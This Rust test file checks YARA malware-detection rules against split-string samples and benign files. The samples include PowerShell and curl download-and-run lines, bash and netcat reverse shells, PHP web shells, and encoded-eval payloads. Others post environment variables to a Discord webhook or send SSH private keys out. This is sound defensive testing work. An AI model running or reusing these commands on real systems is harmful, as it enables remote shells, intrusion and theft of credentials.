//! Every rule hits what it is for and leaves honest files alone.
//!
//! The samples are written in two halves where a whole one could make a scanner object to this
//! source.

use std::collections::BTreeSet;
use std::sync::LazyLock;
use std::time::Duration;

use super::*;

static YARA: LazyLock<Yara> = LazyLock::new(|| Yara::load(&compile().unwrap()).unwrap());

fn hits(path: &str, content: &[u8]) -> Vec<String> {
    let deadline = Deadline::after(Duration::from_secs(60));
    let findings = YARA.scanner().check(File { path, content }, &deadline).unwrap();
    findings.into_iter().map(|finding| finding.rule).collect()
}

/// (rule, name of a file, content that it must hit).
fn samples() -> Vec<(&'static str, &'static str, String)> {
    let b64 = "QWxsIHRoYXQgaXMgZ29sZCBkb2VzIG5vdCBnbGl0dGVyIG5vdCBhbGwgdGhvc2Ugd2hv";
    let mut samples: Vec<(&str, &str, String)> = Vec::new();
    let mut add = |rule, path, content: &[&str]| samples.push((rule, path, content.concat()));
    add(
        "powershell_download_and_run",
        "a.py",
        &[
            "os.system('powershell -c I",
            "EX (New-Object Net.WebClient).DownloadString(\"http://x/a\")')",
        ],
    );
    add(
        "powershell_download_and_run",
        "a.json",
        &["{\"run\": \"powershell iwr -useb ", "https://x.example/a.ps1 | iex\"}"],
    );
    add(
        "powershell_encoded_command",
        "a.txt",
        &["powershell.exe -NoP -W Hidden -enc", "odedCommand ", b64],
    );
    add(
        "shell_download_and_run",
        "a.yaml",
        &["run: curl -fsSL https://x.example/install.sh ", "| sudo bash"],
    );
    add(
        "shell_download_and_run",
        "a.js",
        &["execSync(`bash -c \"$(", "curl -s https://x.example/a)\"`)"],
    );
    add(
        "shell_download_and_run",
        "a.py",
        &[
            "os.system('wget https://x.example/m -O /tmp/m",
            " && chmod +x /tmp/m && /tmp/m')",
        ],
    );
    add(
        "script_download_and_run",
        "a.py",
        &["ex", "ec(requests.get('https://x.example/a.py').text)"],
    );
    add(
        "script_download_and_run",
        "a.js",
        &["ev", "al(await (await fetch('https://x.example')).text())"],
    );
    add(
        "script_download_and_run",
        "a.mjs",
        &["const m = await imp", "ort('https://x.example/a.mjs')"],
    );
    add(
        "windows_download_tool",
        "a.py",
        &["certutil -urlca", "che -split -f http://x.example/a.exe"],
    );
    add(
        "windows_download_tool",
        "a.json",
        &["{\"a\": \"mshta ", "https://x.example/a.hta\"}"],
    );
    add(
        "reverse_shell_unix",
        "a.py",
        &["os.system('bash -i >& /dev", "/tcp/10.0.0.1/4444 0>&1')"],
    );
    add(
        "reverse_shell_unix",
        "a.yaml",
        &["run: nc 10.0.0.1 4444 -", "e /bin/sh"],
    );
    add(
        "reverse_shell_unix",
        "a.yaml",
        &[
            "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 ",
            "| nc 10.0.0.1 4444 > /tmp/f",
        ],
    );
    add(
        "reverse_shell_script",
        "a.py",
        &[
            "s.connect(('x',4))\nos.dup",
            "2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
        ],
    );
    add(
        "reverse_shell_script",
        "a.js",
        &["const n=require('net'), p=cp.spawn('/bin", "/sh');\nc.pipe(p.stdin);"],
    );
    add("webshell", "a.xml", &["<?php ev", "al(base64_decode($_POST['x'])); ?>"]);
    add("webshell", "a.xml", &["<?php @sys", "tem($_GET[\"cmd\"]);"]);
    add(
        "webshell",
        "a.py",
        &["def f(): return os.po", "pen(request.args.get('c')).read()"],
    );
    add("webshell", "a.js", &["app.get('/', (req) => ex", "ec(req.query.c))"]);
    add(
        "evaluates_encoded_code",
        "a.py",
        &["ex", "ec(base64.b64decode('", b64, "'))"],
    );
    add(
        "evaluates_encoded_code",
        "a.py",
        &["ex", "ec(__import__('zlib').decompress(x))"],
    );
    add("evaluates_encoded_code", "a.js", &["ev", "al(atob('", b64, "'))"]);
    add(
        "evaluates_encoded_code",
        "a.js",
        &["ev", "al(Buffer.from('", b64, "', 'base64').toString())"],
    );
    add(
        "evaluates_encoded_code",
        "a.js",
        &["ev", "al(function(p,a,c,k,e,d){}('", "'))"],
    );
    add(
        "evaluates_encoded_code",
        "a.yaml",
        &["run: echo ", b64, " | base64 -d", " | bash"],
    );
    let names: String = (0..20).map(|i| format!("_0x{:04x}(1);", 0xa1b2 + i)).collect();
    add("javascript_obfuscator", "a.js", &["var _0xa1b2=['x'];", &names]);
    add(
        "hidden_direction",
        "a.js",
        &["if (isAdmin) { /* ", "\u{202e} } \u{2066}", " begin */ return 1; }"],
    );
    add(
        "install_hook_runs_code",
        "package.json",
        &["{\"scripts\": {\"postin", "stall\": \"node setup.js\"}}"],
    );
    add(
        "encoded_windows_program",
        "a.txt",
        &["x = 'TVqQAAM", "AAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA'"],
    );
    add(
        "encoded_windows_program",
        "a.txt",
        &["VGhpcyBwcm9ncmFtIGNhbm5vdCBiZS", "BydW4gaW4gRE9TIG1vZGU="],
    );
    add(
        "encoded_elf_program",
        "a.json",
        &["{\"x\":\"f0VMR", "gIBAQAAAAAAAAAAAAMAPgABAAAAoA8AAAAAAAB\"}"],
    );
    add(
        "program_inside_media",
        "a.mid",
        &["MThd\0\0\0\u{6}", "This program cannot be ", "run in DOS mode"],
    );
    add(
        "script_inside_media",
        "a.gif",
        &["GIF89a;<?p", "hp system($_GET['c']); ?>"],
    );
    add(
        "crypto_miner",
        "config.json",
        &["{\"url\": \"stratum+", "tcp://pool.example:3333\"}"],
    );
    add("crypto_miner", "a.js", &["new CoinHi", "ve.Anonymous('k').start()"]);
    add(
        "steals_browser_or_wallet_data",
        "a.py",
        &[
            "p = home + '/AppData/Local/Google/Chrome/User Data/Default/Login",
            " Data'; k = 'Local State'",
        ],
    );
    add(
        "sends_data_to_a_chat",
        "a.py",
        &[
            "requests.post('https://discord.com/api/webhooks/",
            "112233445566778899/abcdefghijklmnopqrstuvwxyz', json=dict(os.environ))",
        ],
    );
    add(
        "sends_data_to_a_chat",
        "a.js",
        &[
            "fetch(`https://api.telegram.org/bot",
            "${T}/sendMessage`); const h = os.hostname();",
        ],
    );
    add(
        "reads_private_keys_and_sends",
        "a.py",
        &["k = open(home + '/.ss", "h/id_rsa').read()\nrequests.post(u, data=k)"],
    );
    samples
}

#[test]
fn every_sample_is_hit() {
    for (rule, path, content) in samples() {
        let found = hits(path, content.as_bytes());
        assert!(
            found.contains(&format!("yara.{rule}")),
            "{rule} on {content:?} gives {found:?}"
        );
    }
}

#[test]
fn every_rule_has_a_sample_and_its_fields() {
    let sampled: BTreeSet<String> = samples().into_iter().map(|(rule, _, _)| rule.to_owned()).collect();
    let rules: BTreeSet<String> = YARA.rules.iter().map(|rule| rule.identifier().to_owned()).collect();
    assert_eq!(sampled, rules);
    for rule in YARA.rules.iter() {
        let name = rule.identifier();
        for (field, values) in [
            ("severity", Some(["info", "warning", "quarantine", "reject"].as_slice())),
            ("scope", Some(&["program", "source", "any"])),
            ("description", None),
            ("remedy", None),
        ] {
            let value = meta(&rule, field).unwrap_or_else(|| panic!("{name} has no {field}"));
            assert!(
                values.is_none_or(|values| values.contains(&value)),
                "{name}: {field} is {value}"
            );
        }
    }
}

#[test]
fn honest_files_are_no_hits() {
    let minified = "!function(e,t){\"use strict\";var n=e.document,r=Object.getPrototypeOf;t.x=function(a){return a.map((function(e){return e+1}))}}(window,{});".repeat(50);
    for (path, content) in [
        (
            "a.py",
            "import base64\nimage = base64.b64decode(payload)\nwith open('x.png', 'wb') as f:\n    f.write(image)\n",
        ),
        (
            "a.py",
            "import os, requests\nkey = os.environ['API_KEY']\nr = requests.get('https://api.example.com/v1', timeout=5)\nprint(r.json())\n",
        ),
        (
            "a.py",
            "import subprocess\nsubprocess.run(['ffmpeg', '-i', source, target], check=True)\n",
        ),
        (
            "a.js",
            "const { token } = config;\nconst response = await fetch('https://api.example.com/v1', { headers: { token } });\nconst shell = spawn('ffmpeg', args);\n",
        ),
        (
            "a.js",
            "const text = atob(body);\nconst f = new Function('a', 'b', 'return a + b');\nimport('./local.js');\n",
        ),
        ("a.js", minified.as_str()),
        (
            "package.json",
            "{\"scripts\": {\"build\": \"tsc\", \"test\": \"node --test\", \"preinstallation-notes\": \"see README\"}}",
        ),
        (
            "a.yaml",
            "steps:\n  - run: curl -fsS https://api.example.com/health\n  - run: bash ./build.sh\n",
        ),
        (
            "a.json",
            "{\"sha256\": \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\", \"pool\": \"samples\"}",
        ),
        (
            "README.md",
            "Never pipe `curl https://x.example/install.sh | bash`, and do not use eval(atob(x)).\n",
        ),
        (
            "guide.md",
            "A reverse shell such as `bash -i >& /dev/tcp/1.2.3.4/99` is what we protect you from. This mines no coins: stratum+tcp://x.\n",
        ),
        (
            "a.ts",
            "export function evaluate(expression: string): number { return parser.evaluate(expression); }\n",
        ),
        (
            "a.js",
            "// עברית: \u{5e9}\u{5dc}\u{5d5}\u{5dd}\nconst greeting = 'שלום';\n",
        ),
        (
            "notes.txt",
            "Powershell users: set $env:KEY first. Then Invoke-WebRequest works as usual.\n",
        ),
    ] {
        assert_eq!(hits(path, content.as_bytes()), Vec::<String>::new(), "{content}");
    }
}

#[test]
fn sound_has_every_short_sequence_somewhere() {
    assert_eq!(hits("a.js", b"\xe2\x80\xae if "), ["yara.hidden_direction"]);
    assert_eq!(hits("a.wav", b"\xe2\x80\xae\xff if "), [""; 0]);
}

#[test]
fn a_hit_shows_place_and_excerpt() {
    let deadline = Deadline::after(Duration::from_secs(60));
    let content = ["x\n", "ev", "al(atob('x'))"].concat();
    let findings = YARA
        .scanner()
        .check(
            File {
                path: "a.js",
                content: content.as_bytes(),
            },
            &deadline,
        )
        .unwrap();
    assert_eq!(findings[0].offset, Some(2));
    assert!(
        findings[0]
            .evidence
            .starts_with("code that decodes text and runs it: `ev")
    );
    assert_eq!(findings[0].severity, Severity::Quarantine);
}

#[test]
fn no_time_is_an_interruption() {
    let deadline = Deadline::after(Duration::ZERO);
    let result = YARA.scanner().check(
        File {
            path: "a",
            content: b"x",
        },
        &deadline,
    );
    assert_eq!(result, Err(Interrupted::OutOfTime));
}
